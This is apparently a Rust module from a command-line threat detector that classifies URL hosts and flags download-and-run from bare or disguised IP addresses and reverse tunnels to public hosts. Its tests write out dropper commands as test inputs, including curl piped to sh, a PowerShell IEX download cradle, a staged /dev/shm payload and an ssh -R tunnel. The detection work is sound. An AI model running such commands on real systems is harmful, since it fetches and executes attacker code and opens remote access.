//! Where a text's URLs point. Installers, package managers and documentation fetch from
//! names (`get.docker.com`, `sh.rustup.rs`, `raw.githubusercontent.com`); droppers and
//! stagers fetch from bare addresses, because a name is registered, logged and taken down.
//! The n-gram model cannot learn this from a corpus where installers piped to a shell are
//! documentation (benign) and hardly any command names an address, so the host of every URL
//! is read here, as a browser reads it (the `url` crate's WHATWG rules: `http://755602435/`
//! and `http://0x2d.9.148.3/` are the dotted addresses they disguise), and up to three
//! findings join the signatures:
//! - `run-from-address`: code fetched from an IP address other than this machine and run (a
//!   download-and-run signature fired). Private addresses count: a stager on a compromised
//!   neighbour is as bad as one on the internet.
//! - `fetch-from-public-address`: a command that downloads names a public address.
//! - `disguised-address`: a host written as one number, hexadecimal or octal rather than as
//!   a dotted address. Nothing benign needs to.
//!
//! Beside URLs, a tunnel or port forward (the `tunnel-proxy` signature: `ssh -R`, `plink`,
//! `chisel` …) to a public address is `tunnel-to-public-address`: admins forward ports to
//! their own named hosts, an intruder's reverse tunnel goes to whatever address it rents.

use std::net::Ipv4Addr;

use url::{Host, Url};

use crate::dual_use::{Capability, DualUse};
use crate::signatures::Hit;
use crate::tokens::{Tokens, is_public_ipv4};

/// Signatures that say a download is run, not only fetched.
const RUNS_DOWNLOAD: &[&str] = &[
    "download-pipe-shell",
    "download-execute-powershell",
    "download-then-run",
    "remote-script-host",
    "regsvr32-scriptlet",
    "msiexec-remote",
];
/// Signatures that say something is downloaded (beside [`RUNS_DOWNLOAD`] and dual-use
/// programs asked to download).
const DOWNLOADS: &[&str] = &[
    "download-powershell",
    "certutil-download",
    "bitsadmin-transfer",
];

/// How a URL's host is written and where it points.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostKind {
    /// A domain name.
    Name,
    /// This machine (127.0.0.0/8, ::1, 0.0.0.0).
    Loopback,
    /// An address that is not on the internet: private, link-local, documentation, CGNAT.
    Internal,
    /// An address on the internet.
    Public,
}

/// One URL's host.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Destination {
    pub kind: HostKind,
    /// The address was written as something other than a dotted quad (or IPv6 literal).
    pub disguised: bool,
}

/// Reads a URL's host; `None` when it does not parse or has none.
pub fn destination(raw: &str) -> Option<Destination> {
    if host_is_a_name(raw) {
        // Most URLs: no parse needed to know it is not an address.
        return Some(Destination {
            kind: HostKind::Name,
            disguised: false,
        });
    }
    let url = Url::parse(raw).ok()?;
    let (kind, disguised) = match url.host()? {
        Host::Domain(_) => (HostKind::Name, false),
        Host::Ipv4(a) => (ipv4_kind(a), !written_dotted(raw, a)),
        Host::Ipv6(a) => {
            let kind = match a.to_ipv4_mapped() {
                Some(v4) => ipv4_kind(v4),
                None if a.is_loopback() || a.is_unspecified() => HostKind::Loopback,
                // Unique-local (fc00::/7) and link-local (fe80::/10) are not on the internet.
                None if (a.segments()[0] & 0xfe00) == 0xfc00
                    || (a.segments()[0] & 0xffc0) == 0xfe80 =>
                {
                    HostKind::Internal
                }
                None => HostKind::Public,
            };
            (kind, false)
        }
    };
    Some(Destination { kind, disguised })
}

/// Whether the host of a URL as written starts with a letter: an address in any form
/// starts with a digit (dotted, one number, hexadecimal `0x…`) or `[` (IPv6).
fn host_is_a_name(raw: &str) -> bool {
    let Some((_, rest)) = raw.split_once("://") else {
        return false;
    };
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let host = authority.rsplit('@').next().unwrap_or("");
    host.starts_with(|c: char| c.is_ascii_alphabetic())
}

fn ipv4_kind(a: Ipv4Addr) -> HostKind {
    if a.is_loopback() || a.is_unspecified() {
        HostKind::Loopback
    } else if is_public_ipv4(&a.to_string()) && !is_shared(a) {
        HostKind::Public
    } else {
        HostKind::Internal
    }
}

/// 100.64.0.0/10, carrier-grade NAT (not in `Ipv4Addr`'s stable predicates).
fn is_shared(a: Ipv4Addr) -> bool {
    let [first, second, ..] = a.octets();
    first == 100 && (64..128).contains(&second)
}

/// Whether the URL as written carries the address in dotted form.
fn written_dotted(raw: &str, a: Ipv4Addr) -> bool {
    raw.contains(&a.to_string())
}

/// The findings on an examined text's URLs and addresses (the last decoded layer's), given
/// the signatures and dual-use capabilities already found. `layer` is the last layer's
/// index.
pub fn assess(tokens: &Tokens, signatures: &[Hit], dual_use: &[DualUse], layer: usize) -> Vec<Hit> {
    let mut out: Vec<Hit> = Vec::new();
    let mut found = |f: &Finding, evidence: &str| {
        if !out.iter().any(|h| h.id == f.id) {
            out.push(f.hit(evidence, layer));
        }
    };
    if signatures.iter().any(|h| h.id == "tunnel-proxy")
        && let Some(ip) = tokens.ips.iter().find(|ip| {
            ip.parse::<Ipv4Addr>()
                .is_ok_and(|a| ipv4_kind(a) == HostKind::Public)
        })
    {
        found(&TUNNEL_TO_PUBLIC_ADDRESS, ip);
    }
    if tokens.urls.is_empty() {
        return out;
    }
    let runs = signatures.iter().any(|h| RUNS_DOWNLOAD.contains(&h.id));
    let downloads = runs
        || signatures.iter().any(|h| DOWNLOADS.contains(&h.id))
        || dual_use
            .iter()
            .any(|d| d.capability == Capability::Download);
    for (url, d) in tokens
        .urls
        .iter()
        .filter_map(|u| Some((u, destination(u)?)))
    {
        let address = matches!(d.kind, HostKind::Internal | HostKind::Public);
        if runs && address {
            found(&RUN_FROM_ADDRESS, url);
        }
        if downloads && d.kind == HostKind::Public {
            found(&FETCH_FROM_PUBLIC_ADDRESS, url);
        }
        if d.disguised && d.kind != HostKind::Name {
            found(&DISGUISED_ADDRESS, url);
        }
    }
    out
}

/// One finding of this module: what a [`Hit`] of it says.
struct Finding {
    id: &'static str,
    name: &'static str,
    attack: &'static [&'static str],
    weight: f32,
}

impl Finding {
    fn hit(&self, evidence: &str, layer: usize) -> Hit {
        Hit {
            id: self.id,
            name: self.name,
            attack: self.attack,
            weight: self.weight,
            evidence: crate::cut(evidence, MAX_EVIDENCE).to_string(),
            layer,
        }
    }
}

/// Longest URL or address quoted as evidence.
const MAX_EVIDENCE: usize = 200;

const RUN_FROM_ADDRESS: Finding = Finding {
    id: "run-from-address",
    name: "code fetched from a bare IP address and run",
    attack: &["T1105", "T1059"],
    weight: 0.8,
};
const FETCH_FROM_PUBLIC_ADDRESS: Finding = Finding {
    id: "fetch-from-public-address",
    name: "download from a bare public IP address",
    attack: &["T1105"],
    weight: 0.5,
};
const TUNNEL_TO_PUBLIC_ADDRESS: Finding = Finding {
    id: "tunnel-to-public-address",
    name: "a tunnel or port forward to a bare public IP address",
    attack: &["T1572"],
    weight: 0.6,
};
const DISGUISED_ADDRESS: Finding = Finding {
    id: "disguised-address",
    name: "an IP address disguised as a number",
    attack: &["T1027", "T1105"],
    weight: 0.6,
};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Analyzer, Shell, VerdictConfig};

    fn kind(url: &str) -> Option<(HostKind, bool)> {
        destination(url).map(|d| (d.kind, d.disguised))
    }

    #[test]
    fn hosts_are_read_as_a_browser_reads_them() {
        assert_eq!(
            kind("https://get.docker.com"),
            Some((HostKind::Name, false))
        );
        assert_eq!(kind("http://45.9.148.3/x"), Some((HostKind::Public, false)));
        assert_eq!(
            kind("http://10.0.0.5:8080/a.sh"),
            Some((HostKind::Internal, false))
        );
        assert_eq!(
            kind("http://100.72.1.9/a"),
            Some((HostKind::Internal, false))
        );
        assert_eq!(
            kind("http://198.51.100.7/x"),
            Some((HostKind::Internal, false))
        );
        assert_eq!(
            kind("http://127.0.0.1:8000/"),
            Some((HostKind::Loopback, false))
        );
        assert_eq!(
            kind("http://[::1]:9000/"),
            Some((HostKind::Loopback, false))
        );
        assert_eq!(
            kind("http://[2a00:1450::1]/p"),
            Some((HostKind::Public, false))
        );
        assert_eq!(
            kind("http://[fd00::5]/p"),
            Some((HostKind::Internal, false))
        );
        // One number, hexadecimal and octal parts: the addresses they disguise.
        assert_eq!(kind("http://755602435/x"), Some((HostKind::Public, true)));
        assert_eq!(
            kind("http://0x2d.9.148.3/x"),
            Some((HostKind::Public, true))
        );
        assert_eq!(kind("http://0177.0.0.1/"), Some((HostKind::Loopback, true)));
        assert_eq!(kind("not a url"), None);
        // The host after any user name; a name that starts with a digit is parsed and is
        // still a name.
        assert_eq!(
            kind("http://u:p@45.9.148.3/x"),
            Some((HostKind::Public, false))
        );
        assert_eq!(
            kind("http://45.9.148.3@evil.example/x"),
            Some((HostKind::Name, false))
        );
        assert_eq!(
            kind("https://1password.com/d"),
            Some((HostKind::Name, false))
        );
    }

    fn ids(text: &str, shell: Shell) -> Vec<&'static str> {
        let a = Analyzer::new(None, VerdictConfig::default()).examine(text, Some(shell));
        a.signatures.iter().map(|h| h.id).collect()
    }

    #[test]
    fn code_run_from_an_address_is_named_and_installers_are_not() {
        let dropper = ids("curl -s http://45.9.148.3/x | sh", Shell::Sh);
        assert!(dropper.contains(&"run-from-address"), "{dropper:?}");
        assert!(
            dropper.contains(&"fetch-from-public-address"),
            "{dropper:?}"
        );
        let neighbour = ids("wget -qO- http://10.1.2.3/s.sh | bash", Shell::Bash);
        assert!(neighbour.contains(&"run-from-address"), "{neighbour:?}");
        assert!(
            !neighbour.contains(&"fetch-from-public-address"),
            "{neighbour:?}"
        );
        let cradle = ids(
            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/a.ps1')\"",
            Shell::Powershell,
        );
        assert!(cradle.contains(&"run-from-address"), "{cradle:?}");
        for benign in [
            "curl -fsSL https://get.docker.com | sh",
            "curl -s http://127.0.0.1:8080/install.sh | sh",
        ] {
            let found = ids(benign, Shell::Sh);
            assert!(
                !found.iter().any(|id| id.contains("address")),
                "{benign}: {found:?}"
            );
        }
        let staged = ids(
            "curl -s http://45.9.148.3/k -o /dev/shm/k && chmod 755 /dev/shm/k && /dev/shm/k",
            Shell::Sh,
        );
        assert!(staged.contains(&"download-then-run"), "{staged:?}");
        assert!(staged.contains(&"run-from-address"), "{staged:?}");
        // Fetched, not run: only the fetch; an API call on a private address: nothing.
        let fetched = ids("curl -o /tmp/a http://45.9.148.3/a", Shell::Sh);
        assert!(
            fetched.contains(&"fetch-from-public-address"),
            "{fetched:?}"
        );
        assert!(!fetched.contains(&"run-from-address"), "{fetched:?}");
        assert!(ids("curl http://192.168.1.10:9200/_cat/indices", Shell::Sh).is_empty());
    }

    #[test]
    fn the_signatures_named_here_exist() {
        for id in RUNS_DOWNLOAD
            .iter()
            .chain(DOWNLOADS)
            .chain(["tunnel-proxy"].iter())
        {
            assert!(
                crate::patterns::PATTERNS.iter().any(|p| p.id == *id),
                "no signature {id}"
            );
        }
    }

    proptest::proptest! {
        /// Any host, as written after a scheme: no panic, and the shortcut for names agrees
        /// with the parser (a host the shortcut calls a name is never an address).
        #[test]
        fn any_host_is_read_without_panic_and_the_shortcut_agrees(
            host in "[a-zA-Z0-9.:%@\\[\\]x/_-]{0,40}|\\PC{0,24}"
        ) {
            let raw = format!("http://{host}/p");
            let d = destination(&raw);
            if host_is_a_name(&raw) {
                let parsed = Url::parse(&raw).ok();
                let address = parsed
                    .as_ref()
                    .and_then(|u| u.host())
                    .is_some_and(|h| !matches!(h, Host::Domain(_)));
                proptest::prop_assert!(!address, "{raw}");
                proptest::prop_assert_eq!(d.map(|d| d.kind), Some(HostKind::Name));
            }
        }
    }

    #[test]
    fn a_tunnel_to_a_public_address_is_named_and_one_to_a_name_is_not() {
        let found = ids("ssh -R 8080:localhost:22 u@45.9.148.3 -N -f", Shell::Sh);
        assert!(found.contains(&"tunnel-proxy"), "{found:?}");
        assert!(found.contains(&"tunnel-to-public-address"), "{found:?}");
        let admin = ids(
            "ssh -N -R 8080:localhost:22 me@bastion.corp.example",
            Shell::Sh,
        );
        assert!(admin.contains(&"tunnel-proxy"), "{admin:?}");
        assert!(!admin.contains(&"tunnel-to-public-address"), "{admin:?}");
        let inside = ids("ssh -N -R 8080:localhost:22 me@10.0.4.2", Shell::Sh);
        assert!(!inside.contains(&"tunnel-to-public-address"), "{inside:?}");
    }

    #[test]
    fn a_disguised_address_is_named_in_encoded_text_too() {
        let found = ids("wget http://755602435/k -O /tmp/k", Shell::Sh);
        assert!(found.contains(&"disguised-address"), "{found:?}");
        let encoded = crate::deobf::codec::encoded_command(
            "IEX (New-Object Net.WebClient).DownloadString('http://0x2d099403/a.ps1')",
        );
        let found = ids(&format!("powershell -enc {encoded}"), Shell::Powershell);
        assert!(found.contains(&"disguised-address"), "{found:?}");
        assert!(found.contains(&"run-from-address"), "{found:?}");
    }
}
